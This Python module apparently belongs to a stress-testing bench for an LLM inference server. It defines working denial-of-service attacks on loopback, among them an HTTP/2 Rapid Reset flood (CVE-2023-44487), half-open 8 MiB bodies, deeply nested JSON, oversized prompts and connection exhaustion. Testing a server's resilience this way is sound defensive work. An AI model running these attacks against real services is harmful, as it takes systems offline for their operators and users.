"""The attacks: each is a coroutine that runs until it is cancelled, with a bounded number of connections and requests.

An attack that is refused goes on, as an attacker would. Every attack sends to loopback only.
"""

import asyncio
import contextlib
import itertools
import json
import random
from collections.abc import Awaitable, Callable, Sequence

import aiohttp

from bench.attacks import http2
from bench.attacks.busy_cores import compute_on_every_core
from bench.attacks.connections import connection, discard
from bench.attacks.grammars import large_schemas, slow_masks
from bench.attacks.large_messages import send_large_messages
from bench.attacks.resumed_requests import resume_again_and_again
from bench.attacks.target import Target
from bench.command_line import BenchError
from quire.async_client import AsyncClient
from quire.errors import QuireError

GENERATE = "/quire.v1.Generation/Generate"
_COMPLETIONS = "/live/completions"
_MIB = 1 << 20
_PAUSE_S = 0.01
_REFUSED = (QuireError, aiohttp.ClientError, OSError, TimeoutError)


Attack = Callable[[Target], Awaitable[None]]


async def rapid_reset(target: Target) -> None:
    """Opens streams and cancels each at once, on eight connections (CVE-2023-44487)."""
    await _in_parallel(8, lambda: _reset_streams(target))


async def _reset_streams(target: Target) -> None:
    fields = http2.grpc_call(target.grpc, GENERATE, target.api_key)
    while True:
        with contextlib.suppress(OSError):
            async with connection(target.grpc) as (reader, writer):
                writer.write(http2.PREFACE + http2.settings())
                drained = asyncio.create_task(discard(reader))
                try:
                    for first_id in itertools.count(1, 128):
                        ids = range(first_id, first_id + 128, 2)
                        writer.write(b"".join(http2.headers(i, fields) + http2.reset(i) for i in ids))
                        await writer.drain()
                        if first_id == 1:
                            writer.write(http2.settings_acknowledged())
                        if drained.done():
                            break
                finally:
                    drained.cancel()
        await asyncio.sleep(_PAUSE_S)


async def endless_samples(target: Target) -> None:
    """Holds every slot with 64 samples that never end, and keeps 2,000 plain requests in the queue."""

    async def samples() -> None:
        async with target.client() as client:
            events = client.generate([7, 8, 9], n=64, ignore_eos=True, temperature=1.0)
            async with events:
                async for _ in events:
                    pass

    async def plain() -> None:
        async with target.client() as client:
            await _in_parallel(250, lambda: _again_and_again(lambda: _complete(client, [5] * 64, max_tokens=256)))

    async with asyncio.TaskGroup() as group:
        group.create_task(_again_and_again(samples))
        for _ in range(8):
            group.create_task(plain())


async def half_open_bodies(target: Target) -> None:
    """Keeps 150 requests open, each of which has sent all but the last byte of an 8 MiB body."""
    await _in_parallel(150, lambda: _again_and_again(lambda: _half_open(target)))


async def _half_open(target: Target) -> None:
    async with connection(target.http) as (reader, writer):
        writer.write(_http_head(target, 8 * _MIB))
        piece = b'{"text": "' + b"a" * (_MIB - 10)
        for _ in range(8):
            writer.write(piece)
            await writer.drain()
        await reader.read()


async def deep_json(target: Target) -> None:
    """Sends bodies that are expensive to parse: 4 MiB of brackets and of empty objects."""
    bodies = [b"[" * (4 * _MIB), b"[" + b"{}," * (_MIB * 4 // 3) + b"{}]"]
    await _in_parallel(4, lambda: _post_in_turn(target, bodies))


async def huge_texts(target: Target) -> None:
    """Sends texts of 1.9 MiB that cannot fit the model."""
    rng = random.Random(3)
    text = "".join(rng.choices("abcdefghij klmnopqrstuvwxyz", k=1_900_000))

    async def loop() -> None:
        async with target.client() as client:
            while True:
                await _complete(client, text, max_tokens=1)

    await _in_parallel(6, loop)


async def large_messages(target: Target) -> None:
    """Keeps 1,000 calls open on 20 connections, each with a message of 4 MB. A tenth end while it is sent."""
    await _in_parallel(20, lambda: send_large_messages(target.grpc, target.api_key))


async def costly_reads(target: Target) -> None:
    """Reads metrics, the live page's stream and readiness in eight loops each."""

    async def loop(path: str) -> None:
        async with target.session() as session:
            while True:
                with contextlib.suppress(*_REFUSED):
                    async with session.get(path) as response:
                        await response.content.read(200_000)

    async with asyncio.TaskGroup() as group:
        for path in ("/metrics", "/live/events", "/readyz"):
            for _ in range(8):
                group.create_task(loop(path))


async def empty_messages(target: Target) -> None:
    """Sends chats of very many empty messages, as JSON."""
    body = json.dumps({"chat": {"messages": [{"role": "user", "content": ""}] * 40_000}}).encode()
    await _in_parallel(8, lambda: _post_in_turn(target, [body]))


async def prompt_logprobs(target: Target) -> None:
    """Requests 20 log-probabilities of each prompt token, with six clients."""

    async def loop(seed: int) -> None:
        rng = random.Random(seed)
        async with target.client() as client:
            while True:
                prompt = [rng.randrange(10, 250) for _ in range(200)]
                await _complete(client, prompt, max_tokens=1, prompt_logprobs=20)

    async with asyncio.TaskGroup() as group:
        for seed in range(6):
            group.create_task(loop(seed))


async def resumed_requests(target: Target) -> None:
    """Continues streams of 16 sequences with 2,000 tokens each, with six clients."""
    async with asyncio.TaskGroup() as group:
        for seed in range(6):
            group.create_task(resume_again_and_again(target.grpc, target.api_key, seed))


async def silent_connections(target: Target) -> None:
    """Keeps 260 connections to each port open and sends nothing."""

    async def hold(address: str) -> None:
        async with connection(address) as (reader, _):
            await reader.read()

    async with asyncio.TaskGroup() as group:
        for address in (target.grpc, target.http):
            for _ in range(260):
                group.create_task(_again_and_again(lambda address=address: hold(address)))  # type: ignore[misc]


async def slow_readers(target: Target) -> None:
    """Starts 400 streams and reads nothing from them."""

    async def start() -> None:
        async with target.client() as client:
            events = client.generate([5, 6, 7], max_tokens=200, ignore_eos=True)
            async with events:
                await anext(aiter(events))
                await asyncio.sleep(3600)

    await _in_parallel(400, lambda: _again_and_again(start))


async def busy_cores(target: Target) -> None:
    """Sends nothing, and computes on every core: what this costs a victim is no fault of the server."""
    await compute_on_every_core()


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        rapid_reset,
        endless_samples,
        half_open_bodies,
        deep_json,
        huge_texts,
        large_messages,
        costly_reads,
        empty_messages,
        prompt_logprobs,
        resumed_requests,
        slow_masks,
        large_schemas,
        silent_connections,
        slow_readers,
        busy_cores,
    )
}


async def run(name: str, target: Target, duration_s: float) -> None:
    """Runs an attack for a time. Raises BenchError for an unknown name."""
    if name not in ATTACKS:
        raise BenchError(f"no attack is called {name!r}; there are: {', '.join(ATTACKS)}")
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(duration_s):
            await ATTACKS[name](target)


async def _complete(client: AsyncClient, prompt: str | list[int], **options: object) -> None:
    """Sends one request and reads its output. A refusal is followed by a short pause."""
    try:
        events = client.generate(prompt, **options)  # type: ignore[arg-type]
        async with events:
            async for _ in events:
                pass
    except _REFUSED:
        await asyncio.sleep(_PAUSE_S)


async def _post_in_turn(target: Target, bodies: Sequence[bytes]) -> None:
    """Posts the bodies one after the other, again and again, and ignores the answers."""
    async with target.session() as session:
        for body in itertools.cycle(bodies):
            with contextlib.suppress(*_REFUSED):
                headers = {"Content-Type": "application/json"}
                async with session.post(_COMPLETIONS, data=body, headers=headers) as response:
                    await response.read()
            await asyncio.sleep(_PAUSE_S)


async def _again_and_again(attempt: Callable[[], Awaitable[None]]) -> None:
    while True:
        with contextlib.suppress(*_REFUSED):
            await attempt()
        await asyncio.sleep(_PAUSE_S)


async def _in_parallel(count: int, attempt: Callable[[], Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_run(attempt))


async def _run(attempt: Callable[[], Awaitable[None]]) -> None:
    await attempt()


def _http_head(target: Target, num_bytes: int) -> bytes:
    """Returns the head of a request for a completion whose body has `num_bytes`."""
    key = f"Authorization: Bearer {target.api_key}\r\n" if target.api_key else ""
    return (
        f"POST {_COMPLETIONS} HTTP/1.1\r\nHost: {target.http}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {num_bytes}\r\n{key}\r\n"
    ).encode()
